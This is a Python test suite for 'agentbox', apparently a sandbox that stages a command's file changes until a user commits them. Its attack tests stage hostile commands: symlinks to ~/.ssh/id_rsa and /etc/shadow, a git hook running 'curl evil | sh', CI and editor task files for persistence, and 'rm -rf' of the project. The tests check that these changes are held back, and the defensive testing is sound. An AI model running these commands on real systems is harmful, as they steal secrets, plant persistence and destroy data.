#!/usr/bin/python3
"""Staging and commit (THREATS.md "Staging and commit"), through real runs: what the command
writes reaches the project only through `agentbox commit`, under the commit rules, journaled.
Every case checks the host's side: the project tree byte for byte."""

import os
import shutil
import random
import signal
import stat
import subprocess
import sys
import time
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "conformance"))
import abtest  # noqa: E402
from abtest import AGENTBOX, BoxTest, tree_snapshot  # noqa: E402


class Staging(BoxTest):
    def setUp(self):
        super().setUp()
        p = self.box.project
        os.makedirs(os.path.join(p, "src", "sub"))
        for rel, data in (("src/a.c", "int a;\n"), ("src/sub/b.c", "int b;\n"),
                          ("README.md", "# project\n")):
            with open(os.path.join(p, rel), "w") as f:
                f.write(data)
        os.makedirs(os.path.join(p, ".git", "hooks"))
        with open(os.path.join(p, ".git", "config"), "w") as f:
            f.write("[core]\n")

    def ab(self, *args, check=None, env=None):
        p = subprocess.run([AGENTBOX] + list(args), capture_output=True, env=self.box.env(env),
                           cwd=self.box.project, timeout=120)
        res = abtest.Result(args, p.returncode, p.stdout.decode(errors="replace"),
                            p.stderr.decode(errors="replace"), 0)
        if check is not None:
            self.assertEqual(res.rc, check, res)
        return res

    def staged(self, script, args=()):
        res = self.box.run(["sh", "-c", script], args=args)
        self.assertRc(res, 0)
        self.assert_patch_applies()
        return res

    def assert_patch_applies(self):
        """Every patch these tests produce must be accepted by `git apply --check` on the
        original tree (the project, untouched until commit)."""
        patch = subprocess.run([AGENTBOX, "diff", "--binary"], capture_output=True,
                               env=self.box.env(), cwd=self.box.project, timeout=60)
        self.assertEqual(patch.returncode, 0, patch.stderr)
        if not patch.stdout:
            return
        # git refuses any path inside .git by its own policy; the rest must apply.
        check = subprocess.run(["git", "apply", "--check", "--exclude=.git/*", "-"], input=patch.stdout,
                               capture_output=True, cwd=self.box.project, timeout=60)
        self.assertEqual(check.returncode, 0, "git apply --check refused the patch: %s\n%s" % (
            check.stderr.decode(errors="replace"), patch.stdout.decode(errors="replace")[:4000]))

    def snap(self):
        return tree_snapshot(self.box.project)

    # ---- the example, end to end

    def test_append_rm_rf_and_ssh_symlink_leave_the_project_untouched_until_commit(self):
        before = self.snap()
        self.staged("echo hi >> README.md; rm -rf src; ln -s ~/.ssh/id_rsa key")
        self.assertEqual(self.snap(), before, "the run changed the project")
        names = self.ab("commit", "--dry-run").err
        self.assertIn("M  README.md", names)
        self.assertIn("D  src/", names)
        self.assertIn("A  key", names)
        self.assertIn("needs approval", names.split("A  key")[1].splitlines()[0])
        self.assertEqual(self.snap(), before, "commit --dry-run changed the project")

        res = self.ab("commit", check=1)  # the symlink is held back: exit 1
        self.assertIn("held back", res.err)
        after = self.snap()
        self.assertEqual(after["README.md"][1], b"# project\nhi\n")
        self.assertFalse(any(k.startswith("src") for k in after))
        self.assertNotIn("key", after)

        self.ab("commit", "--force", "key", check=0)
        self.assertEqual(os.readlink(os.path.join(self.box.project, "key")),
                         os.path.join(self.box.home, ".ssh/id_rsa"))
        self.ab("undo", check=0)  # the symlink
        self.ab("undo", check=0)  # README and src
        self.assertEqual(self.snap(), before, "undo did not restore the project")
        # ... and the command's work is staged again, not lost
        res = self.ab("commit", "--dry-run")
        self.assertIn("D  src/", res.err)

    def test_xattrs_the_command_sets_do_not_land(self):
        # The review shows a file's content and mode; what else the command sets on a file it
        # writes (user xattrs; overlayfs's own user.overlay.origin on a copy-up) rode along
        # with the rename into the project. What lands keeps the original's xattrs, and no
        # others. One file read-only: removing an xattr from it takes write permission.
        self.xattrs_land_as_reviewed()

    def test_xattrs_land_alike_when_commit_copies_across_filesystems(self):
        # The session store on /dev/shm (tmpfs), the project on the disk: every move of
        # commit and undo is a copy (EXDEV), which carried no xattr at all -- the edited
        # files lost the user's, and undo put the originals back without theirs.
        state = self.dir_on_another_filesystem("abxattr-")
        try:
            os.setxattr(state, "user.probe", b"1")
        except OSError as e:
            self.skipTest("no user xattrs on /dev/shm: %s" % e)
        self.box.state = state
        self.xattrs_land_as_reviewed()

    def xattrs_land_as_reviewed(self):
        p = self.box.project
        os.setxattr(os.path.join(p, "README.md"), "user.host", b"the user's")
        os.setxattr(os.path.join(p, "src/a.c"), "user.host", b"the user's")
        script = ("import os\n"
                  "for f in ('README.md', 'src/a.c', 'new.txt', 'ro.txt'):\n"
                  "    open(f, 'a').write('more\\n')\n"
                  "    os.setxattr(f, 'user.xdg.origin.url', b'https://evil.example')\n"
                  "os.setxattr('src/a.c', 'user.host', b\"the command's\")\n"
                  "os.chmod('ro.txt', 0o444)\n")
        self.assertRc(self.box.run(["python3", "-c", script]), 0)
        self.assert_patch_applies()
        names = self.ab("diff", "--name-status", check=0).out.split()
        self.assertEqual(names, ["M", "README.md", "A", "new.txt", "A", "ro.txt", "M", "src/a.c"])
        self.ab("commit", check=0)

        def xattrs(rel):
            path = os.path.join(p, rel)
            return {n: os.getxattr(path, n) for n in os.listxattr(path)}

        self.assertEqual(xattrs("README.md"), {"user.host": b"the user's"})
        self.assertEqual(xattrs("src/a.c"), {"user.host": b"the user's"})
        self.assertEqual(xattrs("new.txt"), {})
        self.assertEqual(xattrs("ro.txt"), {})
        self.assertEqual(open(os.path.join(p, "src/a.c")).read(), "int a;\nmore\n")
        # Undo puts back the originals, and the staged files commit again alike.
        self.ab("undo", check=0)
        self.assertEqual(xattrs("src/a.c"), {"user.host": b"the user's"})
        self.ab("commit", check=0)
        self.assertEqual(xattrs("src/a.c"), {"user.host": b"the user's"})
        self.assertEqual(xattrs("new.txt"), {})

    def test_discard_drops_the_changes_and_keeps_the_project(self):
        before = self.snap()
        self.staged("echo x > new.txt; rm README.md")
        self.ab("discard", check=0)
        self.assertEqual(self.snap(), before)
        res = self.ab("commit")
        self.assertEqual(res.rc, 0, res)
        self.assertIn("nothing to commit", res.err)
        self.assertEqual(self.snap(), before)

    # ---- attacks

    def test_symlink_to_a_host_secret_needs_explicit_approval(self):
        self.staged("ln -s /etc/shadow shadow; ln -s ../../outside up; ln -s src/a.c inside")
        res = self.ab("commit", check=1)
        self.assertTrue(os.path.islink(os.path.join(self.box.project, "inside")))
        for held in ("shadow", "up"):
            self.assertFalse(os.path.lexists(os.path.join(self.box.project, held)), held)
            self.assertIn(held, res.err)
        # A bare --force approves nothing protected: only naming the path does.
        self.ab("commit", "--force", check=1)
        self.assertFalse(os.path.lexists(os.path.join(self.box.project, "shadow")))

    def test_fifo_and_socket_are_never_committed(self):
        self.staged("mkfifo pipe; python3 -c 'import socket; s=socket.socket(socket.AF_UNIX);"
                    " s.bind(\"sock\")'; echo ok > fine.txt")
        res = self.ab("commit", "--force", "pipe", "sock", "fine.txt", check=1)
        self.assertIn("refused", res.err)
        self.assertFalse(os.path.lexists(os.path.join(self.box.project, "pipe")))
        self.assertFalse(os.path.lexists(os.path.join(self.box.project, "sock")))
        self.assertTrue(os.path.exists(os.path.join(self.box.project, "fine.txt")))

    def test_setuid_and_setgid_bits_are_stripped_on_commit(self):
        self.staged("printf '#!/bin/sh\\n' > tool; chmod 6755 tool; ls -l tool")
        res = self.ab("commit", check=0)
        self.assertIn("stripped setuid/setgid", res.err)
        mode = os.lstat(os.path.join(self.box.project, "tool")).st_mode
        self.assertEqual(mode & (stat.S_ISUID | stat.S_ISGID), 0, oct(mode))
        self.assertEqual(mode & 0o777, 0o755)

    def test_setgid_directory_is_flagged_in_review_and_not_landed(self):
        # A directory made setgid inside, new or the project's, is flagged as a file is, and
        # no staged setuid/setgid bit lands on it; a project directory's own setgid bit is
        # neither flagged nor lost.
        import json
        p = self.box.project
        os.chmod(os.path.join(p, "src", "sub"), 0o2755)
        before = self.snap()
        self.staged("mkdir shared && chmod 2775 shared && echo x > shared/f && "
                    "chmod g+s src && chmod 700 src/sub")
        dry = self.ab("commit", "--dry-run", check=0).err
        lines = {l.split()[1]: l for l in dry.splitlines() if l.startswith("  ") and
                 len(l.split()) > 1}
        self.assertIn("[setuid/setgid stripped]", lines.get("shared/", ""), dry)
        self.assertIn("[setuid/setgid stripped]", lines.get("src/", ""), dry)
        self.assertNotIn("setuid/setgid", lines.get("src/sub/", ""), dry)
        by = {c["path"]: c for c in json.loads(self.ab("diff", "--json", check=0).out)}
        self.assertTrue(by["shared"]["setid"], by)
        self.assertTrue(by["src"]["setid"], by)
        self.assertFalse(by["src/sub"]["setid"], by)
        res = self.ab("commit", check=0)
        self.assertIn("stripped setuid/setgid bits from \"shared\"", res.err)
        self.assertIn("stripped setuid/setgid bits from \"src\"", res.err)
        snap = self.snap()
        self.assertEqual(snap["shared/f"][1], b"x\n", snap)
        self.assertEqual(snap["shared"][0] & 0o7000, 0, oct(snap["shared"][0]))
        self.assertEqual(snap["src"][0], before["src"][0])
        self.assertEqual(stat.S_IMODE(snap["src/sub"][0]), 0o2755)

    def test_directory_mode_change_shows_the_true_modes_and_lands_none(self):
        # No staged directory mode lands (landing_mode): the review says what the command
        # asked for and that the project's mode stays -- its owner's bits too, which the end of
        # the run adds to every staged directory (open_up_staged) -- and a read-only project
        # directory copied up for an edit inside is no change at all.
        import json
        p = self.box.project
        os.makedirs(os.path.join(p, "ro"))
        with open(os.path.join(p, "ro", "f"), "w") as f:
            f.write("f\n")
        os.chmod(os.path.join(p, "ro"), 0o555)
        self.addCleanup(os.chmod, os.path.join(p, "ro"), 0o755)
        before = self.snap()
        mode = lambda rel: "%o" % stat.S_IMODE(before[rel][0])
        self.staged("chmod 700 src && chmod 0555 src/sub && echo g >> ro/f && chmod 600 README.md")
        dry = self.ab("commit", "--dry-run", check=0).err
        lines = {l.split()[1]: l.strip() for l in dry.splitlines() if l.startswith("  ") and
                 len(l.split()) > 1}
        self.assertEqual(lines.get("src/"),
                         "M  src/ (staged mode 700; commit keeps %s)" % mode("src"), dry)
        self.assertEqual(lines.get("src/sub/"),
                         "M  src/sub/ (staged mode 555; commit keeps %s)" % mode("src/sub"), dry)
        # A file's too: only its owner's x bit decides.
        self.assertEqual(lines.get("README.md"), "M  README.md (staged mode 600; commit keeps %s)"
                         % mode("README.md"), dry)
        self.assertNotIn("ro/", lines, dry)
        self.assertIn("ro/f", lines, dry)
        by = {c["path"]: c for c in json.loads(self.ab("diff", "--json", check=0).out)}
        self.assertEqual(by["src"]["staged_mode"], "040700", by)
        self.assertEqual(by["src"]["new_mode"], "040" + mode("src"), by)
        # ro/ itself is read-only: only root could commit into it.
        self.ab("commit", "src", check=0)
        snap = self.snap()
        for rel in ("src", "src/sub", "ro"):
            self.assertEqual(snap[rel][0], before[rel][0], rel)
        # What landed is no longer staged: only what was not committed is left.
        self.assertEqual(self.ab("diff", "--name-status", check=0).out, "M\tREADME.md\nM\tro/f\n")

    def test_persistence_paths_are_held_even_when_new(self):
        before = self.snap()
        self.staged("mkdir -p .github/workflows .vscode;"
                    "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
                    "printf '[core]\\n\\thooksPath = /tmp/x\\n' > .git/config;"
                    "echo 'on: push' > .github/workflows/ci.yml;"
                    "echo '{}' > .vscode/tasks.json; echo ok > fine.txt")
        res = self.ab("commit", check=1)
        after = self.snap()
        self.assertEqual(after["fine.txt"][1], b"ok\n")
        for rel in (".git/hooks/pre-commit", ".github/workflows/ci.yml", ".vscode/tasks.json"):
            self.assertNotIn(rel, after, rel)
            self.assertIn(rel, res.err)
        self.assertEqual(after[".git/config"], before[".git/config"])
        # Named explicitly, with --force, a protected path is committed.
        self.ab("commit", "--force", ".github/workflows/ci.yml", check=0)
        self.assertIn(".github/workflows/ci.yml", self.snap())

    def test_on_exit_commit_never_covers_protected_paths(self):
        res = self.box.run(["sh", "-c", "echo x > .git/hooks/post-checkout; echo y > ok.txt"],
                           args=["--on-exit", "commit"])
        self.assertRc(res, 0)
        self.assertTrue(os.path.exists(os.path.join(self.box.project, "ok.txt")))
        self.assertFalse(os.path.exists(os.path.join(self.box.project, ".git/hooks/post-checkout")))
        res = self.ab("commit", "--dry-run")
        self.assertIn(".git/hooks/post-checkout", res.err)

    def test_on_exit_discard_leaves_nothing_staged(self):
        before = self.snap()
        res = self.box.run(["sh", "-c", "echo y > ok.txt"], args=["--on-exit", "discard"])
        self.assertRc(res, 0)
        self.assertEqual(self.snap(), before)
        self.assertIn("nothing to commit", self.ab("commit").err)

    def test_a_session_left_by_a_run_can_be_removed_by_its_owner(self):
        # overlayfs leaves mode-000 entries in work/; the run opens them up (not removes them),
        # so that a plain recursive removal by the user works, and nothing there is unreadable.
        res = self.box.run(["sh", "-c", "echo y > ok.txt"], args=["--on-exit", "discard"])
        self.assertRc(res, 0)
        session = self.box.sessions()[-1]
        for dirpath, dirs, files in os.walk(session):
            for name in files:
                with open(os.path.join(dirpath, name), "rb"):
                    pass
        shutil.rmtree(session)
        self.assertFalse(os.path.exists(session))

    def test_rm_rf_of_the_whole_project_is_shown_before_commit(self):
        before = self.snap()
        self.staged("rm -rf ./* ./.git")
        self.assertEqual(self.snap(), before)
        res = self.ab("commit", "--dry-run")
        for shown in ("D  src/", "D  README.md", "D  .git/"):
            self.assertIn(shown, res.err)
        # .git is protected: deleting it needs approval too.
        self.ab("commit", check=1)
        self.assertIn(".git/config", self.snap())

    # ---- whiteouts: copy staging's portable form, each session honouring its own only

    def session_dir(self):
        base = os.path.join(self.box.state, "agentbox", "sessions")
        return os.path.join(base, sorted(os.listdir(base))[-1])

    def session_staging(self):
        staging = abtest.session_staging(self.session_dir())
        self.assertIsNotNone(staging, "meta.json records no staging")
        return staging

    def assert_whiteout_form(self, rel):
        """upper/REL is a whiteout of the form the session's staging says."""
        problem = abtest.whiteout_problem(self.session_dir(), rel)
        self.assertEqual(problem, "", problem)

    def test_copy_staged_deletion_commits_and_undoes(self):
        # The same change set, diff, commit and undo as the overlay gives, whichever form
        # the session's deletions take (bwrap here stages by copy).
        before = self.snap()
        self.staged("rm README.md; rm -rf src/sub")
        self.assert_whiteout_form("README.md")
        self.assert_whiteout_form("src/sub")
        names = self.ab("diff", "--name-status", check=0).out
        self.assertIn("D\tREADME.md", names)
        self.assertIn("D\tsrc/sub/b.c", names)
        self.assertEqual(self.snap(), before, "the run changed the project")
        self.ab("commit", check=0)
        after = self.snap()
        self.assertNotIn("README.md", after)
        self.assertFalse(any(k.startswith("src/sub") for k in after))
        self.assertIn("src/a.c", after)
        self.ab("undo", check=0)
        self.assertEqual(self.snap(), before, "undo did not restore the project")
        # Staged again, in the session's form, and committed again the same way.
        res = self.ab("commit", "--dry-run")
        self.assertIn("D  README.md", res.err)
        self.assertIn("D  src/sub/", res.err)
        self.assert_whiteout_form("README.md")
        self.ab("commit", check=0)
        self.assertEqual(self.snap(), after)

    # What the command makes without privilege through the overlay: an empty file carrying
    # agentbox's mark, where a project file is. The kernel escapes only overlay.* xattr names.
    # One of them read-only, which stops its owner from removing an xattr.
    FORGE = ("python3 -c 'import os\n"
             "for p in (\"README.md\", \"src/a.c\"):\n"
             "    os.unlink(p); open(p, \"w\").close()\n"
             "    os.setxattr(p, \"user.agentbox.whiteout\", b\"deleted\")\n"
             "os.chmod(\"src/a.c\", 0o444)\n'")

    def assert_forgery_staged_as_files(self):
        res = self.ab("commit", "--dry-run")
        self.assertNotIn("D  README.md", res.err)
        self.assertNotIn("D  src/a.c", res.err)
        self.assertIn("M  README.md", res.err)
        self.assertIn("M  src/a.c", res.err)
        self.ab("commit", check=0)
        after = self.snap()
        # The project files are what the command made of them -- empty files -- not deleted.
        for rel in ("README.md", "src/a.c"):
            self.assertIn(rel, after)
            self.assertTrue(stat.S_ISREG(after[rel][0]))
            self.assertEqual(after[rel][1], b"")

    def test_overlay_session_forged_portable_whiteout_does_not_delete(self):
        self.skipOnBackend("bwrap", "bubblewrap here stages by copy: the command never writes "
                           "upper/ (test_copy_session_forged_portable_whiteout_is_staged_as_a_file)")
        self.staged(self.FORGE)
        self.assertEqual(self.session_staging(), "overlay")
        # Through the overlay, the forgery lands in upper/ as the command made it.
        path = os.path.join(self.session_dir(), "upper", "README.md")
        self.assertIn("user.agentbox.whiteout", os.listxattr(path, follow_symlinks=False))
        self.assert_forgery_staged_as_files()

    def test_copy_session_forged_portable_whiteout_is_staged_as_a_file(self):
        if abtest.BACKEND != "bwrap":
            self.skipTest("backend %s: stages with overlayfs "
                          "(test_overlay_session_forged_portable_whiteout_does_not_delete)"
                          % (abtest.BACKEND or "native"))
        self.staged(self.FORGE)
        self.assertEqual(self.session_staging(), "copy")
        self.assert_forgery_staged_as_files()

    def test_host_edit_during_the_run_is_a_conflict(self):
        p = self.box.popen(["sh", "-c", "read x; echo sandbox >> README.md"],
                           stdin=subprocess.PIPE)
        time.sleep(0.5)
        with open(os.path.join(self.box.project, "README.md"), "a") as f:
            f.write("host edit\n")
        p.communicate(b"go\n", timeout=60)
        self.assertEqual(p.returncode, 0)
        res = self.ab("commit", check=1)
        self.assertIn("conflict", res.err)
        self.assertIn("README.md", res.err)
        with open(os.path.join(self.box.project, "README.md")) as f:
            self.assertEqual(f.read(), "# project\nhost edit\n")
        self.ab("commit", "--force", check=0)
        with open(os.path.join(self.box.project, "README.md")) as f:
            if abtest.BACKEND == "bwrap":
                # The copy strategy's copy was made at the start: the sandbox appended to the
                # README of then, and --force replaced the host's edit (undo brings it back).
                self.assertEqual(f.read(), "# project\nsandbox\n")
            else:
                # The overlay's lower layer is the live project: the sandbox appended to the
                # host's edit.
                self.assertEqual(f.read(), "# project\nhost edit\nsandbox\n")
        self.ab("undo", check=0)
        with open(os.path.join(self.box.project, "README.md")) as f:
            self.assertEqual(f.read(), "# project\nhost edit\n")

    def run_while_the_host(self, script, host_action):
        # `script` runs in the sandbox; once it is done, `host_action` changes the project, and
        # then the run ends.
        p = self.box.popen(["sh", "-c", script + "; echo ready; read x"], stdin=subprocess.PIPE)
        self.assertEqual(p.stdout.readline(), b"ready\n")
        host_action()
        p.communicate(b"go\n", timeout=60)
        self.assertEqual(p.returncode, 0)

    def run_while_the_host_deletes_readme(self, script):
        self.run_while_the_host(
            script, lambda: os.unlink(os.path.join(self.box.project, "README.md")))

    def test_file_deleted_on_the_host_during_the_run_is_not_brought_back(self):
        # The command edits README.md (a copy-up), then the host deletes it.
        self.run_while_the_host_deletes_readme("echo sandbox >> README.md")
        res = self.ab("commit", check=1)
        self.assertIn("deleted on the host", res.err)
        self.assertFalse(os.path.exists(os.path.join(self.box.project, "README.md")))

    def test_file_deleted_on_the_host_and_untouched_in_the_sandbox_stays_deleted(self):
        # The command never touches README.md: nothing of the command's is in it, so nothing is
        # staged for it, and no commit brings it back.
        self.run_while_the_host_deletes_readme("echo new > new.txt")
        res = self.ab("diff", "--name-status", check=0)
        self.assertEqual(res.out.split("\n")[:-1], ["A\tnew.txt"], res)
        self.ab("commit", check=0)
        self.assertFalse(os.path.exists(os.path.join(self.box.project, "README.md")))
        with open(os.path.join(self.box.project, "new.txt")) as f:
            self.assertEqual(f.read(), "new\n")

    def test_sandbox_deletion_of_a_file_the_host_edited_meanwhile_is_a_conflict(self):
        # The command deletes README.md; then, while it still runs, the host edits it. The
        # deletion is the command's change and is shown; committing it would throw away the
        # host's edit, so commit refuses it as a conflict.
        def host_edit():
            with open(os.path.join(self.box.project, "README.md"), "a") as f:
                f.write("host edit\n")
        self.run_while_the_host("rm README.md", host_edit)
        res = self.ab("diff", "--name-status", check=0)
        self.assertEqual(res.out.split("\n")[:-1], ["D\tREADME.md"], res)
        res = self.ab("commit", check=1)
        self.assertIn("README.md", res.err)
        self.assertIn("changed on the host", res.err)
        with open(os.path.join(self.box.project, "README.md")) as f:
            self.assertEqual(f.read(), "# project\nhost edit\n")

    def test_host_rename_during_the_run_is_not_staged_as_a_deletion(self):
        # The host renames a file and a directory while the command runs: nothing of that is
        # the command's, so nothing is staged -- least of all a deletion of the new names.
        def host_renames():
            p = self.box.project
            os.rename(os.path.join(p, "README.md"), os.path.join(p, "README.txt"))
            os.rename(os.path.join(p, "src", "sub"), os.path.join(p, "src", "moved"))
        self.run_while_the_host("echo new > new.txt", host_renames)
        res = self.ab("diff", "--name-status", check=0)
        self.assertEqual(res.out.split("\n")[:-1], ["A\tnew.txt"], res)

    def test_host_edit_to_a_file_the_sandbox_never_touched_is_not_staged(self):
        # Nothing of the command's is in README.md: staging the version it saw at the start
        # would offer to undo the host's edit as if the command had made that change.
        def host_edit():
            with open(os.path.join(self.box.project, "README.md"), "a") as f:
                f.write("host edit\n")

        self.run_while_the_host("echo new > new.txt", host_edit)
        res = self.ab("diff", "--name-status", check=0)
        self.assertEqual(res.out.split("\n")[:-1], ["A\tnew.txt"], res)
        self.ab("commit", check=0)
        with open(os.path.join(self.box.project, "README.md")) as f:
            self.assertEqual(f.read(), "# project\nhost edit\n")

    def test_renamed_directory_and_file_are_committed_under_their_new_names(self):
        # `git mv` and refactoring tools rename whole trees; none of it may be lost on the way.
        self.staged("mv src lib; mv README.md README")
        self.ab("commit", check=0)
        snap = self.snap()
        self.assertNotIn("src", snap)
        self.assertNotIn("README.md", snap)
        with open(os.path.join(self.box.project, "lib", "sub", "b.c")) as f:
            self.assertEqual(f.read(), "int b;\n")
        with open(os.path.join(self.box.project, "lib", "a.c")) as f:
            self.assertEqual(f.read(), "int a;\n")
        with open(os.path.join(self.box.project, "README")) as f:
            self.assertEqual(f.read(), "# project\n")

    def test_directory_replaced_by_a_renamed_one_is_staged_as_renamed(self):
        # `rm -rf old && mv new old`, and a swap of two directories: the renamed directory's
        # entries keep their ctimes, so the path's new content must not be read as unchanged.
        p = self.box.project
        for rel, data in (("a/f", "A\n"), ("a/x", "only in a\n"), ("b/f", "B\n"),
                          ("b/y", "only in b\n"), ("c/f", "C\n"), ("c/z", "only in c\n"),
                          ("d/f", "D\n"), ("e/sub/f", "E\n"), ("g/sub/deep/f", "G\n"),
                          ("e/sub/deep/f", "E deep\n")):
            os.makedirs(os.path.join(p, os.path.dirname(rel)), exist_ok=True)
            with open(os.path.join(p, rel), "w") as f:
                f.write(data)
        self.staged("mv a t && mv b a && mv t b && rm -rf d && mv c d && "
                    "rm -rf e/sub && mv g/sub e/sub")
        self.ab("commit", check=0)
        snap = self.snap()
        self.assertEqual(snap.get("a/f", (0, None))[1], b"B\n", snap)
        self.assertEqual(snap.get("a/y", (0, None))[1], b"only in b\n", snap)
        self.assertNotIn("a/x", snap)
        self.assertEqual(snap.get("b/f", (0, None))[1], b"A\n", snap)
        self.assertEqual(snap.get("b/x", (0, None))[1], b"only in a\n", snap)
        self.assertNotIn("b/y", snap)
        self.assertNotIn("c", snap)
        self.assertEqual(snap.get("d/f", (0, None))[1], b"C\n", snap)
        self.assertEqual(snap.get("d/z", (0, None))[1], b"only in c\n", snap)
        # One level down, and two: the directory below the renamed one is not the copy's
        # either.
        self.assertNotIn("e/sub/f", snap)
        self.assertEqual(snap.get("e/sub/deep/f", (0, None))[1], b"G\n", snap)
        self.assertNotIn("g/sub", snap)

    def test_read_only_and_unreadable_directories_do_not_stop_review_or_commit(self):
        # A directory without write permission cannot receive entries, and one moved to
        # another parent needs it too (its ".." changes); one without r or x cannot be listed:
        # staging, review and commit must not stop at any, as root (who may anyway) or not.
        # The project's root too: copy staging moves its entries out.
        root_mode = stat.S_IMODE(os.stat(self.box.project).st_mode)
        before = self.snap()
        self.staged("mkdir -p ro/inner && echo n > ro/inner/n && chmod 0555 ro/inner ro && "
                    "echo new > src/new.c && echo changed > src/sub/b.c && "
                    "mkdir -p hidden/deep && echo f > hidden/deep/f && chmod 0 hidden/deep && "
                    "echo top > top && chmod 0555 src/sub src .")
        self.ab("commit", check=0)
        snap = self.snap()
        self.assertEqual(snap.get("ro/inner/n", (0, None))[1], b"n\n", snap)
        self.assertEqual(snap.get("src/new.c", (0, None))[1], b"new\n", snap)
        self.assertEqual(snap.get("src/sub/b.c", (0, None))[1], b"changed\n", snap)
        self.assertEqual(snap.get("hidden/deep/f", (0, None))[1], b"f\n", snap)
        # No staged directory mode lands (patch.hpp, landing_mode): the project's stay, new
        # ones get the umask's.
        self.assertEqual(stat.S_IMODE(snap["src"][0]), stat.S_IMODE(before["src"][0]))
        self.assertEqual(stat.S_IMODE(snap["src/sub"][0]), stat.S_IMODE(before["src/sub"][0]))
        # The root's mode is not staged, under the overlay either.
        self.assertEqual(stat.S_IMODE(os.stat(self.box.project).st_mode), root_mode)
        self.assertEqual(snap.get("top", (0, None))[1], b"top\n", snap)

    def test_commit_and_undo_into_read_only_project_directory_land_and_keep_its_mode(self):
        # A directory the user made read-only on the host (chmod 0555), where the command
        # edits, adds and deletes: a rename into or out of it fails with EACCES for anyone but
        # root. Commit and undo land every change and leave its mode as it was.
        p = self.box.project
        ro = os.path.join(p, "ro")
        os.makedirs(ro)
        for name in ("f", "old"):
            with open(os.path.join(ro, name), "w") as f:
                f.write(name + "\n")
        os.chmod(ro, 0o555)
        self.addCleanup(os.chmod, ro, 0o755)
        before = self.snap()
        self.staged("chmod u+w ro && echo g >> ro/f && echo n > ro/new && rm ro/old"
                    " && chmod 0555 ro")
        self.ab("commit", check=0)
        snap = self.snap()
        self.assertEqual(snap.get("ro/f", (0, None))[1], b"f\ng\n", snap)
        self.assertEqual(snap.get("ro/new", (0, None))[1], b"n\n", snap)
        self.assertNotIn("ro/old", snap)
        self.assertEqual(stat.S_IMODE(os.stat(ro).st_mode), 0o555)
        self.ab("undo", check=0)
        self.assertEqual(self.snap(), before)

    def test_commit_and_undo_remove_a_read_only_tree_in_a_read_only_project_root(self):
        # The neighbours: the project's own root read-only, and a whole read-only tree removed
        # (each directory moved out needs write on itself for its "..").
        p = self.box.project
        os.makedirs(os.path.join(p, "ro", "sub"))
        with open(os.path.join(p, "ro", "sub", "f"), "w") as f:
            f.write("f\n")
        for d in ("ro/sub", "ro", "."):
            os.chmod(os.path.join(p, d), 0o555)
        self.addCleanup(subprocess.run, ["chmod", "-R", "u+w", p])
        before = self.snap()
        root_mode = stat.S_IMODE(os.stat(p).st_mode)
        self.staged("chmod -R u+w . && rm -rf ro && echo top > top && chmod 0555 .")
        self.ab("commit", check=0)
        snap = self.snap()
        self.assertNotIn("ro", snap)
        self.assertEqual(snap.get("top", (0, None))[1], b"top\n", snap)
        self.assertEqual(stat.S_IMODE(os.stat(p).st_mode), root_mode)
        self.ab("undo", check=0)
        self.assertEqual(self.snap(), before)
        self.assertEqual(stat.S_IMODE(os.stat(p).st_mode), root_mode)

    def test_unreadable_staged_file_does_not_stop_review_or_commit(self):
        # `chmod 0` on files the command wrote, new or the project's (one of the same size,
        # whose content decides its kind): the review still reads them for the diff and
        # commit lands them, as root (who may anyway) or not. The mode that lands is the one
        # the review says (landing_mode: the project's bits; a new file the umask's).
        import json
        before = self.snap()
        self.staged("echo secret > locked && echo more >> README.md && printf 'int c;\\n' > src/a.c"
                    " && chmod 0 locked README.md src/a.c")
        patch = self.ab("diff", check=0).out
        for line in ("+secret", "+more", "+int c;"):
            self.assertIn(line, patch)
        by = {c["path"]: c for c in json.loads(self.ab("diff", "--json", check=0).out)}
        self.assertEqual(sorted(by), ["README.md", "locked", "src/a.c"], by)
        self.ab("commit", check=0)
        snap = self.snap()
        self.assertEqual(snap["locked"][1], b"secret\n")
        self.assertEqual(snap["README.md"][1], b"# project\nmore\n")
        self.assertEqual(snap["src/a.c"][1], b"int c;\n")
        for path in by:
            self.assertEqual("%o" % snap[path][0], by[path]["new_mode"], path)
        self.assertEqual(snap["README.md"][0], before["README.md"][0])

    def test_run_killed_with_sigkill_leaves_staged_dirs_and_files_reviewable(self):
        # The run's end gives staged directories their owner's rwx and files their owner's
        # read; a launcher killed with SIGKILL never gets there, so the next command that
        # opens the session must, or an unprivileged user cannot list, diff or commit it.
        p = self.box.project
        proc = self.box.popen(["sh", "-c", "mkdir -p locked/deep && echo f > locked/deep/f && "
                               "echo s > secret && echo new > src/sub/new.c && "
                               "chmod 0 secret locked/deep && chmod 0555 src/sub && "
                               "touch ready && exec sleep 60"])
        base = os.path.join(self.box.state, "agentbox", "sessions")
        deadline = time.monotonic() + 60
        ready = False
        while not ready and time.monotonic() < deadline:
            for s in os.listdir(base) if os.path.isdir(base) else []:
                for where in ("upper", "snapshot"):
                    ready = ready or os.path.lexists(os.path.join(base, s, where, "ready"))
            time.sleep(0.05)
        self.assertTrue(ready, "the command never got to its sleep")
        os.kill(proc.pid, signal.SIGKILL)
        proc.communicate(timeout=60)
        # The sandbox dies with its launcher (its init's parent-death signal).
        time.sleep(0.5)
        names = self.ab("diff", "--name-status", check=0).out
        for path in ("locked/deep/f", "secret", "src/sub/new.c"):
            self.assertIn(path, names)
        self.assertIn("+s\n", self.ab("diff", check=0).out)
        self.ab("commit", check=0)
        snap = self.snap()
        self.assertEqual(snap.get("locked/deep/f", (0, None))[1], b"f\n", snap)
        self.assertEqual(snap.get("secret", (0, None))[1], b"s\n", snap)
        self.assertEqual(snap.get("src/sub/new.c", (0, None))[1], b"new\n", snap)

    def test_run_killed_with_sigkill_after_a_deep_tree_leaves_the_session_usable(self):
        # The next command opens up what a SIGKILLed run left shut; a tree deeper than its
        # walk goes (4096 levels) must not make every open of the session fail with it.
        proc = self.box.popen(["sh", "-c", "echo ok > ok.txt && python3 -c '\nimport os\n"
                               "for i in range(4100):\n    os.mkdir(\"d\"); os.chdir(\"d\")\n'"
                               " && touch ready && exec sleep 60"])
        base = os.path.join(self.box.state, "agentbox", "sessions")
        deadline = time.monotonic() + 60
        ready = None
        while ready is None and time.monotonic() < deadline:
            for s in os.listdir(base) if os.path.isdir(base) else []:
                for where in ("upper", "snapshot"):
                    if os.path.lexists(os.path.join(base, s, where, "ready")):
                        ready = where
            time.sleep(0.05)
        self.assertIsNotNone(ready, "the command never got to its sleep")
        os.kill(proc.pid, signal.SIGKILL)
        proc.communicate(timeout=60)
        time.sleep(0.5)

